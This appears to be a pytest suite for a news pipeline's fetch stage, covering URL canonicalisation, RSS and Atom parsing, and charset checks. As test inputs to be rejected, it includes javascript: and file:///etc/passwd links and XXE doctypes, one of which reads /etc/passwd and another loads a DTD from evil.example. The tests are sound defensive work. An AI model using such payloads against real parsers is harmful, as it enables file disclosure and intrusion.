"""Fetch stage: canonical URLs, story ids, feed parsing and article checks (no network)."""

from __future__ import annotations

import re

import pytest

from pipeline.errors import BadContent, PermanentError
from pipeline.fetch import (
    CHARSET_OVERRIDE,
    CHARSET_UNCLEAN,
    ITEM_REJECTED,
    ITEM_TRUNCATED,
    MAX_TITLE_CHARS,
    TITLE_CUT,
    ParsedFeed,
    canonical_url,
    check_article,
    decode_feed,
    garbled,
    parse_feed,
    story_id_for,
    trace_id_for,
    utf8_mojibake,
)
from pipeline.ports import HttpResponse

FEED_URL = "https://news.example.org/feeds/world/rss.xml"

# --- canonical_url ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("url", "base", "expected"),
    [
        # relative links resolved against the base
        ("/world/nato-drill", FEED_URL, "https://news.example.org/world/nato-drill"),
        (
            "story-123.html",
            "https://news.example.org/world/index.html",
            "https://news.example.org/world/story-123.html",
        ),
        (
            "../europe/baltic",
            "https://news.example.org/world/latest/",
            "https://news.example.org/world/europe/baltic",
        ),
        ("//cdn.example.org/a", "https://news.example.org/", "https://cdn.example.org/a"),
        # an absolute URL ignores the base
        ("http://other.example.net/x", FEED_URL, "http://other.example.net/x"),
        # host lower-cased, trailing dot removed
        ("https://NEWS.Example.ORG/World/Story", None, "https://news.example.org/World/Story"),
        ("https://news.example.org./a", None, "https://news.example.org/a"),
        # default ports dropped, other ports kept
        ("http://news.example.org:80/a", None, "http://news.example.org/a"),
        ("https://news.example.org:443/a", None, "https://news.example.org/a"),
        ("https://news.example.org:8443/a", None, "https://news.example.org:8443/a"),
        ("http://news.example.org:443/a", None, "http://news.example.org:443/a"),
        # fragments removed; an empty path becomes "/"
        ("https://news.example.org/a#comments", None, "https://news.example.org/a"),
        ("https://news.example.org", None, "https://news.example.org/"),
        # tracking parameters stripped
        (
            "https://news.example.org/a?utm_source=rss&utm_medium=feed&utm_campaign=world",
            None,
            "https://news.example.org/a",
        ),
        ("https://news.example.org/a?fbclid=IwAR0abc&gclid=Cj0KCQ", None, "https://news.example.org/a"),
        (
            "https://news.example.org/a?UTM_Source=x&ocid=msn&at_medium=social&_ga=2.1&mc_cid=9",
            None,
            "https://news.example.org/a",
        ),
        # real parameters kept and sorted
        ("https://news.example.org/a?page=2&id=4471", None, "https://news.example.org/a?id=4471&page=2"),
        (
            "https://news.example.org/a?utm_source=rss&page=2&fbclid=z&id=4471#top",
            None,
            "https://news.example.org/a?id=4471&page=2",
        ),
        (
            "https://news.example.org/search?q=nato+baltic&lang=en",
            None,
            "https://news.example.org/search?lang=en&q=nato+baltic",
        ),
    ],
)
def test_canonical_url(url: str, base: str | None, expected: str) -> None:
    assert canonical_url(url, base=base) == expected


def test_canonical_url_is_stable() -> None:
    once = canonical_url("https://News.Example.org:443/a?z=1&utm_term=x&b=2#frag")
    assert canonical_url(once) == once


@pytest.mark.parametrize(
    "url",
    [
        "ftp://news.example.org/file.txt",
        "javascript:alert(1)",
        "mailto:desk@example.org",
        "file:///etc/passwd",
        "data:text/html,<p>hi</p>",
        "news.example.org/no-scheme",
    ],
)
def test_canonical_url_rejects_non_http(url: str) -> None:
    with pytest.raises(BadContent):
        canonical_url(url)


def test_canonical_url_rejects_missing_host() -> None:
    with pytest.raises(BadContent):
        canonical_url("https:///only-a-path")


# --- story_id_for -------------------------------------------------------------------------------


def test_story_id_same_for_tracking_fragment_and_host_case() -> None:
    plain = story_id_for("https://news.example.org/world/nato-drill?id=7")
    variants = [
        "https://news.example.org/world/nato-drill?id=7&utm_source=rss&utm_medium=feed",
        "https://news.example.org/world/nato-drill?fbclid=abc&id=7",
        "https://news.example.org/world/nato-drill?id=7#comments",
        "https://NEWS.EXAMPLE.ORG/world/nato-drill?id=7",
        "https://news.example.org:443/world/nato-drill?gclid=q&id=7#top",
    ]
    assert {story_id_for(v) for v in variants} == {plain}


def test_story_id_differs_for_different_paths_and_params() -> None:
    ids = {
        story_id_for("https://news.example.org/world/nato-drill"),
        story_id_for("https://news.example.org/world/nato-drill-2"),
        story_id_for("https://news.example.org/World/nato-drill"),  # paths are case-sensitive
        story_id_for("https://news.example.org/world/nato-drill?id=8"),
        story_id_for("http://other.example.org/world/nato-drill"),
    }
    assert len(ids) == 5


def test_story_id_is_32_hex_chars() -> None:
    sid = story_id_for("https://news.example.org/world/nato-drill")
    assert re.fullmatch(r"[0-9a-f]{32}", sid)


# --- parse_feed ---------------------------------------------------------------------------------

RSS = b"""<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0">
  <channel>
    <title>Northern Ledger - World</title>
    <link>https://news.example.org/world</link>
    <description>World news from the Northern Ledger desk</description>
    <item>
      <title>NATO jets scrambled over Baltic after Russian aircraft nears airspace</title>
      <link>/world/2026/11/20/baltic-scramble?utm_source=rss&amp;utm_medium=feed</link>
      <description>Two fighter jets were scrambled from Siauliai air base on Friday morning.</description>
      <pubDate>Fri, 20 Nov 2026 10:15:00 +0200</pubDate>
      <guid isPermaLink="false">nl-2026-11-20-0001</guid>
    </item>
    <item>
      <title>Kremlin says alliance drill is a provocation</title>
      <link>https://news.example.org/world/2026/11/20/kremlin-drill</link>
      <description>Moscow will take measures to ensure its security, a spokesman said.</description>
      <pubDate>Fri, 20 Nov 2026 07:02:30 GMT</pubDate>
    </item>
    <item>
      <title>Kremlin says alliance drill is a provocation (updated)</title>
      <link>https://NEWS.example.org/world/2026/11/20/kremlin-drill?fbclid=xyz#top</link>
      <description>A second copy of the same story with tracking parameters.</description>
      <pubDate>Fri, 20 Nov 2026 07:30:00 GMT</pubDate>
    </item>
    <item>
      <title>Finland extends border closure</title>
      <guid>https://news.example.org/world/2026/11/20/finland-border</guid>
      <description>The eastern border stays shut until February.</description>
      <pubDate>Fri, 20 Nov 2026 06:00:00 +0000</pubDate>
    </item>
    <item>
      <title>Entry with nothing to point at</title>
      <description>This item has neither a link nor a URL guid.</description>
      <guid isPermaLink="false">internal-778</guid>
    </item>
  </channel>
</rss>
"""

ATOM = b"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom">
  <title>Harbour Wire: Europe</title>
  <id>urn:uuid:1b0c2f1e-4d1a-4c55-9e7e-2a5a1d0f0c01</id>
  <updated>2026-11-20T09:00:00Z</updated>
  <entry>
    <title>Poland to build new air-defence base near Suwalki Gap</title>
    <link rel="alternate" href="europe/poland-air-defence-base"/>
    <id>tag:harbourwire.example,2026:poland-base</id>
    <published>2026-11-20T11:45:00+01:00</published>
    <updated>2026-11-20T12:00:00+01:00</updated>
    <summary>The base will host Patriot batteries from 2028, the defence ministry said.</summary>
  </entry>
  <entry>
    <title>Estonia summons Russian envoy over airspace violation</title>
    <link rel="alternate" href="https://harbourwire.example/europe/estonia-envoy"/>
    <id>tag:harbourwire.example,2026:estonia-envoy</id>
    <updated>2026-11-19T22:10:00Z</updated>
    <summary>A Russian helicopter crossed into Estonian airspace for about a minute.</summary>
  </entry>
</feed>
"""

ATOM_URL = "https://harbourwire.example/feeds/atom.xml"


@pytest.fixture(scope="module")
def rss_feed() -> ParsedFeed:
    return parse_feed(RSS, FEED_URL)


def test_rss_feed_title_and_entries(rss_feed: ParsedFeed) -> None:
    assert rss_feed.title == "Northern Ledger - World"
    titles = [e.title for e in rss_feed.entries]
    # the duplicate of the Kremlin story is collapsed; the linkless entry is skipped
    assert titles == [
        "NATO jets scrambled over Baltic after Russian aircraft nears airspace",
        "Kremlin says alliance drill is a provocation",
        "Finland extends border closure",
    ]


def test_rss_entry_fields(rss_feed: ParsedFeed) -> None:
    first = rss_feed.entries[0]
    assert first.summary == "Two fighter jets were scrambled from Siauliai air base on Friday morning."
    # +0200 offset converted to UTC, ISO seconds
    assert first.published == "2026-11-20T08:15:00+00:00"
    # relative link resolved against the feed URL, tracking params gone
    assert first.url == "https://news.example.org/world/2026/11/20/baltic-scramble"
    assert first.story_id == story_id_for(first.url)
    assert first.feed_url == FEED_URL
    assert first.guid == "nl-2026-11-20-0001"
    assert rss_feed.entries[1].published == "2026-11-20T07:02:30+00:00"


def test_rss_duplicates_collapse_to_first(rss_feed: ParsedFeed) -> None:
    kremlin = [e for e in rss_feed.entries if "kremlin-drill" in e.url]
    assert len(kremlin) == 1
    assert kremlin[0].url == "https://news.example.org/world/2026/11/20/kremlin-drill"
    assert kremlin[0].summary.startswith("Moscow will take measures")
    assert len({e.story_id for e in rss_feed.entries}) == len(rss_feed.entries)


def test_rss_entry_without_link_uses_http_guid(rss_feed: ParsedFeed) -> None:
    finland = rss_feed.entries[2]
    assert finland.url == "https://news.example.org/world/2026/11/20/finland-border"
    assert finland.published == "2026-11-20T06:00:00+00:00"


def test_rss_entry_without_any_link_is_a_problem(rss_feed: ParsedFeed) -> None:
    assert len(rss_feed.problems) == 1
    problem = rss_feed.problems[0]
    assert problem.kind == ITEM_REJECTED
    assert "without a link" in problem.detail
    assert "Entry with nothing to point at" in problem.detail
    assert problem.link == "" and problem.trace_id == ""  # nothing to trace it under


def test_atom_feed() -> None:
    feed = parse_feed(ATOM, ATOM_URL)
    assert feed.title == "Harbour Wire: Europe"
    assert feed.problems == ()
    poland, estonia = feed.entries
    assert poland.title == "Poland to build new air-defence base near Suwalki Gap"
    assert poland.url == "https://harbourwire.example/feeds/europe/poland-air-defence-base"
    assert poland.summary == "The base will host Patriot batteries from 2028, the defence ministry said."
    # published preferred over updated, converted from +01:00
    assert poland.published == "2026-11-20T10:45:00+00:00"
    assert poland.guid == "tag:harbourwire.example,2026:poland-base"
    # no published: updated is used
    assert estonia.published == "2026-11-19T22:10:00+00:00"
    assert estonia.url == "https://harbourwire.example/europe/estonia-envoy"


def test_parse_feed_is_deterministic() -> None:
    assert parse_feed(RSS, FEED_URL) == parse_feed(RSS, FEED_URL)


def test_rss_non_http_link_is_a_problem_not_a_crash() -> None:
    body = b"""<?xml version="1.0"?><rss version="2.0"><channel><title>T</title>
      <item><title>Bad</title><link>javascript:alert(1)</link></item>
      <item><title>Good</title><link>https://news.example.org/good</link></item>
    </channel></rss>"""
    feed = parse_feed(body, FEED_URL)
    assert [e.title for e in feed.entries] == ["Good"]
    assert len(feed.problems) == 1
    assert feed.problems[0].kind == ITEM_REJECTED
    assert feed.problems[0].link == "javascript:alert(1)"
    assert "not an http(s) URL" in feed.problems[0].detail


HTML_PAGE = b"""<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>Northern Ledger - World news</title>
<link rel="alternate" type="application/rss+xml" href="/rss"></head>
<body><nav><a href="/">Home</a><br></nav><h1>Top stories</h1>
<p>Ministers met in Brussels&nbsp;today.<p>More soon.</body></html>"""


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"   \n\t ",
        HTML_PAGE,
        b"\x00\x01\x02garbage \xff\xfe\x89PNG lorem",
        b"just some plain words, not a feed",
        b'{"items": [{"title": "json is not a feed"}]}',
    ],
    ids=["empty", "whitespace", "html", "binary", "text", "json"],
)
def test_parse_feed_rejects_non_feeds(body: bytes) -> None:
    with pytest.raises(BadContent):
        parse_feed(body, FEED_URL)


# --- check_article ------------------------------------------------------------------------------

ARTICLE = b"<html><body><article><p>Ministers met in Brussels.</p></article></body></html>"


def _resp(status: int = 200, ctype: str | None = "text/html", body: bytes = ARTICLE) -> HttpResponse:
    headers = {"content-type": ctype} if ctype is not None else {}
    return HttpResponse(url="https://news.example.org/a", status=status, headers=headers, body=body)


@pytest.mark.parametrize(
    "ctype",
    ["text/html", "text/html; charset=utf-8", "TEXT/HTML; Charset=ISO-8859-1", "application/xhtml+xml", None],
)
def test_check_article_accepts_html(ctype: str | None) -> None:
    check_article(_resp(ctype=ctype))  # does not raise


@pytest.mark.parametrize("status", [404, 410, 500])
def test_check_article_error_status_is_permanent(status: int) -> None:
    with pytest.raises(PermanentError) as info:
        check_article(_resp(status=status))
    assert str(status) in str(info.value)
    assert not isinstance(info.value, BadContent)


@pytest.mark.parametrize("ctype", ["application/pdf", "image/jpeg", "application/json"])
def test_check_article_wrong_type_is_bad_content(ctype: str) -> None:
    with pytest.raises(BadContent):
        check_article(_resp(ctype=ctype, body=b"%PDF-1.7 ..."))


@pytest.mark.parametrize("body", [b"", b"  \r\n  "])
def test_check_article_empty_body_is_bad_content(body: bytes) -> None:
    with pytest.raises(BadContent):
        check_article(_resp(body=body))


# --- per-item isolation ---------------------------------------------------------------------------


def _rss(items: str, encoding: str = "utf-8", title: str = "Mixed Desk") -> str:
    return (
        f'<?xml version="1.0" encoding="{encoding}"?><rss version="2.0"><channel><title>{title}</title>'
        f"<link>https://news.example.org/</link>{items}</channel></rss>"
    )


def _item(title: str, link: str, summary: str = "A short summary of the story.") -> str:
    return f"<item><title>{title}</title><link>{link}</link><description>{summary}</description></item>"


GOOD_ITEMS = [
    _item("Riga port reopens after storm", "https://news.example.org/riga-port"),
    _item("Tallinn tram line extended", "https://news.example.org/tallinn-tram"),
]


@pytest.mark.parametrize(
    ("bad", "reason"),
    [
        (_item("Broken IPv6 link", "http://[2001:db8::1/story"), "malformed URL"),
        (_item("Script link", "javascript:alert(1)"), "not an http(s) URL"),
        (_item("No host", "http://:80/x"), "has no host"),
        (_item("Bad port", "http://news.example.org:99999/x"), "malformed URL"),
        (_item("No link at all", ""), "without a link"),
        # (a Latin-1 reading feedparser repairs itself; a windows-1252 one it cannot)
        (_item("Minister says â€œno dealâ€ is off the table", "https://news.example.org/mojibake"), "garbled title"),
        (_item("Replacement \ufffd char", "https://news.example.org/fffd"), "garbled title: it contains U+FFFD"),
        (_item("Fine title", "https://news.example.org/garbled-summary", "Ìýðèÿ Ñàíêò-Ïåòåðáóðãà îòêðûëà íîâûé ìîñò"),
         "garbled summary"),
    ],
    ids=["ipv6-malformed", "javascript", "no-host", "bad-port", "no-link", "utf8-mojibake", "fffd", "cp1251-as-1252"],
)
def test_one_bad_item_is_rejected_and_the_rest_arrive(bad: str, reason: str) -> None:
    body = _rss(GOOD_ITEMS[0] + bad + GOOD_ITEMS[1]).encode()
    feed = parse_feed(body, FEED_URL)
    assert [e.url for e in feed.entries] == ["https://news.example.org/riga-port", "https://news.example.org/tallinn-tram"]
    assert [p.kind for p in feed.problems] == [ITEM_REJECTED]
    assert reason in feed.problems[0].detail, feed.problems[0].detail
    assert feed.rejected == feed.problems


def test_valid_ipv6_link_keeps_its_brackets_and_its_id() -> None:
    url = canonical_url("http://[2001:DB8::1]:8080/story?utm_source=x")
    assert url == "http://[2001:db8::1]:8080/story"
    assert story_id_for(url) == story_id_for("http://[2001:db8::1]:8080/story#top")
    feed = parse_feed(_rss(_item("IPv6 host", "http://[2001:db8::1]/a") + GOOD_ITEMS[0]).encode(), FEED_URL)
    assert [e.url for e in feed.entries] == ["http://[2001:db8::1]/a", "https://news.example.org/riga-port"]
    assert feed.problems == ()


def test_rejected_item_carries_the_id_trace_finds_it_under() -> None:
    feed = parse_feed(_rss(_item("Bad", "http://[::1") + GOOD_ITEMS[0]).encode(), FEED_URL)
    (problem,) = feed.rejected
    assert problem.link == "http://[::1"
    assert problem.trace_id == trace_id_for("http://[::1")
    assert re.fullmatch(r"[0-9a-f]{32}", problem.trace_id)
    # a link that canonicalises is traced under its story id
    assert trace_id_for("https://NEWS.example.org/a?utm_source=x") == story_id_for("https://news.example.org/a")


def test_long_title_is_cut_with_a_recorded_reason() -> None:
    feed = parse_feed(_rss(_item("Long " * 400, "https://news.example.org/long", "Word " * 600)).encode(), FEED_URL)
    (entry,) = feed.entries
    assert len(entry.title) == MAX_TITLE_CHARS
    kinds = {p.kind: p for p in feed.problems}
    assert set(kinds) == {TITLE_CUT, ITEM_TRUNCATED}
    assert "title cut from 1999 to 1000 characters" in kinds[TITLE_CUT].detail
    assert kinds[TITLE_CUT].trace_id == entry.story_id
    assert "summary cut from 2999 to 2000" in kinds[ITEM_TRUNCATED].detail


# --- charsets ----------------------------------------------------------------------------------------

CYRILLIC = "Мэрия Санкт-Петербурга открыла новый мост через Неву"
GREEK = "Η κυβέρνηση ανακοίνωσε νέα μέτρα για την ενέργεια στην Αθήνα"
CJK = "北京市政府宣布新的交通措施，地铁将延长运营时间"


@pytest.mark.parametrize(
    ("text", "encoding", "declared"),
    [
        (CYRILLIC, "cp1251", "utf-8"),
        (CYRILLIC, "utf-8", "windows-1252"),
        (CYRILLIC, "cp1251", "windows-1252"),
        (GREEK, "iso-8859-7", "utf-8"),
        (GREEK, "utf-8", "iso-8859-1"),
        (CJK, "utf-8", "windows-1252"),
        ("Mańkowski re-elected mayor of Łódź", "utf-8", "iso-8859-1"),
    ],
)
def test_wrong_declaration_is_overridden_and_recorded(text: str, encoding: str, declared: str) -> None:
    body = _rss(_item(text, "https://news.example.org/a", text), encoding=declared, title=text).encode(encoding)
    feed = parse_feed(body, FEED_URL, f"application/rss+xml; charset={declared}")
    assert feed.title == text
    assert [(e.title, e.summary) for e in feed.entries] == [(text, text)]
    (problem,) = feed.problems
    assert problem.kind == CHARSET_OVERRIDE
    assert problem.detail.startswith("declared ")


def test_right_declaration_is_kept_without_a_problem() -> None:
    body = _rss(_item(CYRILLIC, "https://news.example.org/a"), encoding="windows-1251").encode("cp1251")
    decoded = decode_feed(body, "application/rss+xml; charset=windows-1251")
    assert (decoded.encoding, decoded.declared, decoded.clean) == ("cp1251", "cp1251", True)
    assert parse_feed(body, FEED_URL, "application/rss+xml; charset=windows-1251").problems == ()


def test_mixed_bytes_reject_only_the_damaged_items() -> None:
    """UTF-8 items and one windows-1251 item in one document: no decoding is clean for all of them."""
    good = _item(CYRILLIC, "https://news.example.org/good").encode()
    bad = _item("Паромное сообщение с Кронштадтом возобновлено", "https://news.example.org/cp1251").encode("cp1251")
    head, tail = _rss("|").encode().split(b"|")
    feed = parse_feed(head + good + bad + tail, FEED_URL, "application/rss+xml; charset=utf-8")
    assert [e.url for e in feed.entries] == ["https://news.example.org/good"]
    assert feed.entries[0].title == CYRILLIC
    kinds = [p.kind for p in feed.problems]
    assert CHARSET_UNCLEAN in kinds and kinds.count(ITEM_REJECTED) == 1
    assert "U+FFFD" in feed.rejected[0].detail and feed.rejected[0].link == "https://news.example.org/cp1251"


@pytest.mark.parametrize("text", [CYRILLIC, GREEK, CJK, "Besançon et Genève", "naïve café résumé"])
def test_mojibake_check_finds_wrong_readings_and_passes_clean_text(text: str) -> None:
    assert garbled(text) is None
    for wrong in ("cp1252", "latin-1"):
        reading = text.encode().decode(wrong, errors="replace")
        assert garbled(reading) is not None, reading
    assert utf8_mojibake(text.encode().decode("latin-1")) is not None


@pytest.mark.parametrize(
    "text", ["Q&A: what's next for the €2bn deal?", "NATO — 75 years on: “Article 5” explained", "Ø 5,2 km² • 12 °C",
             "Straßenbahn nach Örlikon fährt wieder", "»Wir bleiben«, sagt der Bürgermeister"]
)
def test_mojibake_check_leaves_ordinary_punctuation_alone(text: str) -> None:
    assert garbled(text) is None


# --- entity declarations -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE rss [<!ENTITY nbsp "&#160;">]>',
        '<!DOCTYPE rss [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>',
        '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>',
        '<!doctype rss [\n  <!entity a "b">\n]>',
    ],
    ids=["harmless", "nested", "external", "parameter", "lower-case"],
)
def test_entity_declarations_are_refused(doctype: str) -> None:
    body = _rss(_item("Title &a;", "https://news.example.org/a")).replace("<rss", doctype + "<rss", 1).encode()
    with pytest.raises(BadContent, match=r"declares \d+ entit(y|ies) in an internal DTD"):
        parse_feed(body, FEED_URL)


def test_public_doctype_without_entities_is_fine() -> None:
    doctype = '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://example.org/rss-0.91.dtd">'
    body = _rss(_item("Old-style feed", "https://news.example.org/a")).replace("<rss", doctype + "<rss", 1).encode()
    assert [e.title for e in parse_feed(body, FEED_URL).entries] == ["Old-style feed"]


def test_entity_text_inside_an_item_is_not_a_declaration() -> None:
    body = _rss(_item("XML tips", "https://news.example.org/a", "Write &lt;!ENTITY x 'y'&gt; in a DTD")).encode()
    (entry,) = parse_feed(body, FEED_URL).entries
    assert "!ENTITY x 'y'" in entry.summary
